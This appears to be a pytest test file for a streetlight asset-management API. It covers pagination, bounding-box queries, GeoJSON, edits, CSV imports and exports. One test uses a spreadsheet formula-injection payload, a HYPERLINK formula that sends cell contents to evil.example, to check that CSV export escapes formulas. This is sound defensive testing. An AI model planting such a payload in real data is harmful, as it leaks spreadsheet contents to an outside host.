"""The asset API: filters, pages, GeoJSON, edits, imports, exports, size limits."""

from __future__ import annotations

import pytest
from fastapi.testclient import TestClient

from signalight.container import Container
from signalight.domain.assets import AssetKind, AssetRecord, LuminaireType, as_record
from signalight.domain.cities import City
from signalight.domain.geo import offset
from tests.conftest import bearer, make_city, make_token


def grid(city: City, cabinets: int = 2, per_cabinet: int = 30) -> list[AssetRecord]:
    """Cabinets in a row east of the centre, each with a line of lights north of it."""
    records: list[AssetRecord] = []
    for c in range(cabinets):
        lat0, lon0 = (round(v, 7) for v in offset(city.lat, city.lon, 0, 2000.0 * c))
        code = f"CB-{c}"
        records.append(
            AssetRecord(kind=AssetKind.CABINET, code=code, lat=lat0, lon=lon0, device=f"m-{c}")
        )
        for i in range(per_cabinet):
            lat, lon = offset(lat0, lon0, 30.0 * (i + 1), 0)
            records.append(
                AssetRecord(
                    kind=AssetKind.STREETLIGHT,
                    code=f"SL-{c}-{i}",
                    lat=round(lat, 7),
                    lon=round(lon, 7),
                    cabinet=code,
                    luminaire=LuminaireType.LED,
                    rated_watts=60.0,
                    device=f"n-{c}-{i}",
                )
            )
    return records


@pytest.fixture
def admin(container: Container, city: City) -> dict[str, str]:
    container.db.assets.upsert_assets(city.pk, grid(city))
    return bearer(make_token(container, city))


def test_filters_and_pagination_cover_every_asset_once(
    client: TestClient, city: City, admin: dict[str, str]
) -> None:
    url = f"/api/v1/cities/{city.slug}/assets"
    seen: list[str] = []
    cursor = None
    pages = 0
    while True:
        params: dict[str, str | int] = {"limit": 7, "kind": "streetlight"}
        if cursor:
            params["cursor"] = cursor
        body = client.get(url, params=params, headers=admin).json()
        seen.extend(a["code"] for a in body["items"])
        pages += 1
        cursor = body["next_cursor"]
        if cursor is None:
            break
    assert len(seen) == 60
    assert len(set(seen)) == 60
    assert pages == 9
    cabinets = client.get(url, params={"kind": "cabinet"}, headers=admin).json()["items"]
    assert [c["code"] for c in cabinets] == ["CB-0", "CB-1"]
    fed = client.get(url, params={"cabinet": cabinets[1]["id"]}, headers=admin).json()["items"]
    assert {a["code"] for a in fed} == {f"SL-1-{i}" for i in range(30)}
    assert all(a["cabinet"] == "CB-1" for a in fed)


def test_bbox_returns_exactly_the_assets_inside(
    client: TestClient, city: City, admin: dict[str, str]
) -> None:
    # A box around the first five lights of cabinet 0 only.
    south, west = offset(city.lat, city.lon, 15.0, -10.0)
    north, east = offset(city.lat, city.lon, 165.0, 10.0)
    body = client.get(
        f"/api/v1/cities/{city.slug}/assets",
        params={"bbox": f"{west},{south},{east},{north}"},
        headers=admin,
    ).json()
    assert sorted(a["code"] for a in body["items"]) == [f"SL-0-{i}" for i in range(5)]


def test_geojson_output_for_map_layers(
    client: TestClient, city: City, admin: dict[str, str]
) -> None:
    response = client.get(
        f"/api/v1/cities/{city.slug}/assets",
        params={"limit": 10},
        headers={**admin, "Accept": "application/geo+json"},
    )
    assert response.headers["content-type"].startswith("application/geo+json")
    body = response.json()
    assert body["type"] == "FeatureCollection"
    assert len(body["features"]) == 10
    first = body["features"][0]
    assert first["geometry"]["type"] == "Point"
    lon, lat = first["geometry"]["coordinates"]
    assert lat == pytest.approx(city.lat, abs=0.01)
    assert lon == pytest.approx(city.lon, abs=0.05)
    assert first["properties"]["code"] == "CB-0"
    assert body["next_cursor"]
    assert 'rel="next"' in response.headers["link"]


@pytest.mark.parametrize(
    "params",
    [
        {"bbox": "1,2,3"},
        {"bbox": "100.5,5,100.4,6"},
        {"cursor": "garbage!"},
        {"limit": 0},
        {"kind": "lamp"},
    ],
)
def test_bad_query_parameters_are_422_with_a_message(
    client: TestClient, city: City, admin: dict[str, str], params: dict[str, str | int]
) -> None:
    response = client.get(f"/api/v1/cities/{city.slug}/assets", params=params, headers=admin)
    assert response.status_code == 422
    assert response.json()["error"] == "invalid"


def test_create_patch_delete_asset(client: TestClient, city: City, admin: dict[str, str]) -> None:
    base = f"/api/v1/cities/{city.slug}/assets"
    lat, lon = offset(city.lat, city.lon, -100.0, 0)
    created = client.post(
        base,
        json={
            "kind": "streetlight",
            "code": "NEW-1",
            "lat": lat,
            "lon": lon,
            "cabinet": "CB-0",
            "luminaire": "hps",
            "rated_watts": 150,
            "device": "n-new",
        },
        headers=admin,
    )
    assert created.status_code == 201, created.json()
    asset = created.json()
    assert asset["cabinet"] == "CB-0"
    assert asset["device"] == "n-new"
    again = client.post(
        base, json={"kind": "cabinet", "code": "NEW-1", "lat": lat, "lon": lon}, headers=admin
    )
    assert again.status_code == 409
    patched = client.patch(
        f"{base}/{asset['id']}",
        json={"rated_watts": 100, "status": "out_of_service"},
        headers=admin,
    )
    assert patched.status_code == 200
    assert patched.json()["rated_watts"] == 100
    assert patched.json()["luminaire"] == "hps"
    bad = client.patch(f"{base}/{asset['id']}", json={"cabinet": "SL-0-1"}, headers=admin)
    assert bad.status_code == 422
    assert "not a cabinet" in bad.json()["message"]
    cabinet_id = asset["cabinet_id"]
    assert client.delete(f"{base}/{cabinet_id}", headers=admin).status_code == 409
    # An asset with a device is retired: kept with its history, its device unbound.
    assert client.delete(f"{base}/{asset['id']}", headers=admin).status_code == 204
    retired = client.get(f"{base}/{asset['id']}", headers=admin)
    assert retired.status_code == 200
    assert retired.json()["status"] == "removed"
    assert retired.json()["device"] in (None, "")
    device = client.get(f"/api/v1/cities/{city.slug}/devices/n-new", headers=admin)
    assert device.status_code == 200, device.json()
    assert device.json()["asset_id"] is None
    # One with no device and no alarms is deleted.
    bare = client.post(
        base, json={"kind": "cabinet", "code": "BARE-1", "lat": lat, "lon": lon}, headers=admin
    ).json()
    assert client.delete(f"{base}/{bare['id']}", headers=admin).status_code == 204
    assert client.get(f"{base}/{bare['id']}", headers=admin).status_code == 404


def test_import_with_bad_rows_imports_nothing_and_names_each_line(
    client: TestClient, container: Container, city: City, admin: dict[str, str]
) -> None:
    csv = (
        "kind,code,lat,lon,cabinet,rated_watts\n"
        f"cabinet,CB-9,{city.lat},{city.lon},,\n"
        f"streetlight,SL-9-1,{city.lat},{city.lon},CB-9,60\n"
        f"streetlight,SL-9-2,{city.lat},{city.lon},CB-404,60\n"
        f"streetlight,SL-9-3,{city.lat},{city.lon},CB-9,lots\n"
        f"lamp,SL-9-4,{city.lat},{city.lon},CB-9,60\n"
        f"streetlight,SL-9-1,{city.lat},{city.lon},CB-9,60\n"
    ).encode()
    before = container.db.assets.count_assets(city.pk)
    response = client.post(f"/api/v1/cities/{city.slug}/imports", content=csv, headers=admin)
    assert response.status_code == 422
    body = response.json()
    assert body["accepted"] is False
    lines = sorted({int(e.split(":")[0].split()[1]) for e in body["errors"]})
    assert lines == [4, 5, 6, 7]
    assert container.db.assets.count_assets(city.pk) == before
    runs = client.get(f"/api/v1/cities/{city.slug}/imports", headers=admin).json()
    assert runs[0]["accepted"] is False
    assert runs[0]["error_count"] == len(body["errors"])


def test_import_dry_run_then_real(
    client: TestClient, container: Container, city: City, admin: dict[str, str]
) -> None:
    csv = f"kind,code,lat,lon\ncabinet,CB-77,{city.lat},{city.lon}\n".encode()
    url = f"/api/v1/cities/{city.slug}/imports"
    dry = client.post(url, params={"dry_run": True}, content=csv, headers=admin).json()
    assert dry == {**dry, "accepted": True, "dry_run": True, "inserted": 0, "rows": 1}
    assert container.db.assets.existing_assets(city.pk).get("CB-77") is None
    real = client.post(url, content=csv, headers=admin).json()
    assert real["inserted"] == 1
    assert "CB-77" in container.db.assets.existing_assets(city.pk)


def test_huge_upload_is_refused_before_it_is_read(
    client: TestClient, container: Container, city: City, admin: dict[str, str]
) -> None:
    container.settings.max_upload_bytes = 4096
    body = b"kind,code,lat,lon\n" + b"streetlight,X,5.4,100.4\n" * 1000
    response = client.post(f"/api/v1/cities/{city.slug}/imports", content=body, headers=admin)
    assert response.status_code == 413
    assert response.json()["error"] == "too_large"

    def chunks() -> object:
        yield body

    streamed = client.post(f"/api/v1/cities/{city.slug}/imports", content=chunks(), headers=admin)  # type: ignore[arg-type]
    assert streamed.status_code == 413


def test_export_round_trips_into_a_new_city(
    client: TestClient, container: Container, city: City, admin: dict[str, str]
) -> None:
    for fmt in ("csv", "geojson"):
        exported = client.get(
            f"/api/v1/cities/{city.slug}/export", params={"format": fmt}, headers=admin
        )
        assert exported.status_code == 200
        twin = make_city(container.db)
        twin_admin = bearer(make_token(container, twin))
        imported = client.post(
            f"/api/v1/cities/{twin.slug}/imports",
            params={"format": fmt},
            content=exported.content,
            headers=twin_admin,
        )
        assert imported.status_code == 200, imported.json()["errors"][:5]
        original = sorted(container.db.assets.iter_assets(city.pk), key=lambda a: a.code)
        copied = sorted(container.db.assets.iter_assets(twin.pk), key=lambda a: a.code)
        assert [as_record(a) for a in original] == [as_record(a) for a in copied]
        assert len(original) == 62


def test_csv_export_escapes_formulas_and_imports_them_back(
    client: TestClient, container: Container, city: City, admin: dict[str, str]
) -> None:
    lat, lon = offset(city.lat, city.lon, -100.0, 0)
    name = '=HYPERLINK("http://evil.example/?x="&A1,"Details")'
    created = client.post(
        f"/api/v1/cities/{city.slug}/assets",
        json={"kind": "cabinet", "code": "@SUM(1)", "lat": lat, "lon": lon, "name": name},
        headers=admin,
    )
    assert created.status_code == 201, created.json()
    exported = client.get(
        f"/api/v1/cities/{city.slug}/export", params={"format": "csv"}, headers=admin
    )
    assert exported.status_code == 200
    [line] = [line for line in exported.text.splitlines() if "SUM(1)" in line]
    assert line.startswith('cabinet,\'@SUM(1),"\'=HYPERLINK(""http://evil.example/?x=""&A1,')
    twin = make_city(container.db)
    imported = client.post(
        f"/api/v1/cities/{twin.slug}/imports",
        content=exported.content,
        headers=bearer(make_token(container, twin)),
    )
    assert imported.status_code == 200, imported.json()["errors"][:5]
    assert container.db.assets.existing_assets(twin.pk)["@SUM(1)"]
    [copy] = [a for a in container.db.assets.iter_assets(twin.pk) if a.code == "@SUM(1)"]
    assert copy.name == name


def test_devices_are_listed_with_their_assets(
    client: TestClient, city: City, admin: dict[str, str]
) -> None:
    body = client.get(
        f"/api/v1/cities/{city.slug}/devices", params={"kind": "cabinet_meter"}, headers=admin
    ).json()
    assert [(d["uid"], d["asset_code"]) for d in body["items"]] == [
        ("m-0", "CB-0"),
        ("m-1", "CB-1"),
    ]
    one = client.get(f"/api/v1/cities/{city.slug}/devices/n-1-3", headers=admin).json()
    assert one["kind"] == "streetlight_node"
    assert one["asset_code"] == "SL-1-3"
    assert client.get(f"/api/v1/cities/{city.slug}/devices/nope", headers=admin).status_code == 404


def test_city_settings_patch(client: TestClient, city: City, admin: dict[str, str]) -> None:
    url = f"/api/v1/cities/{city.slug}"
    response = client.patch(
        url, json={"tariff_per_kwh": 0.21, "co2_kg_per_kwh": 0.585}, headers=admin
    )
    assert response.status_code == 200
    got = client.get(url, headers=admin).json()
    assert got["tariff_per_kwh"] == 0.21
    assert got["assets"] == {"streetlight": 60, "cabinet": 2, "intersection": 0}
    bad = client.patch(url, json={"timezone": "Nowhere/Land"}, headers=admin)
    assert bad.status_code == 422
    assert "timezone" in bad.json()["message"]
    assert client.patch(url, json={"slug": "renamed"}, headers=admin).status_code == 422
